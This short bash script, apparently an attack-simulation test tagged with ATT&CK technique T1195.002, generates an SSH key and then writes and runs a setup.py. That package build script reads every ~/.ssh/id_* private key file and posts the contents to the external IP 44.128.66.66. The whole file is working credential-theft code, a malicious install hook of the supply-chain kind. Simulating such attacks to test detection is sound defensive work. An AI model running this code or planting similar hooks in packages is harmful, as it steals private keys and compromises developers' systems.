#!/bin/bash
# T1195.002: The build of a package reads keys and sends them.
ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_ed25519; sleep 0.3; mkdir /opt/pkg; cd /opt/pkg
cat >setup.py <<'P'
import os,glob,urllib.request
d=b''.join(open(f,'rb').read() for f in glob.glob(os.path.expanduser('~/.ssh/id_*')))
urllib.request.urlopen('http://44.128.66.66/c',data=d)
P
python3 setup.py install
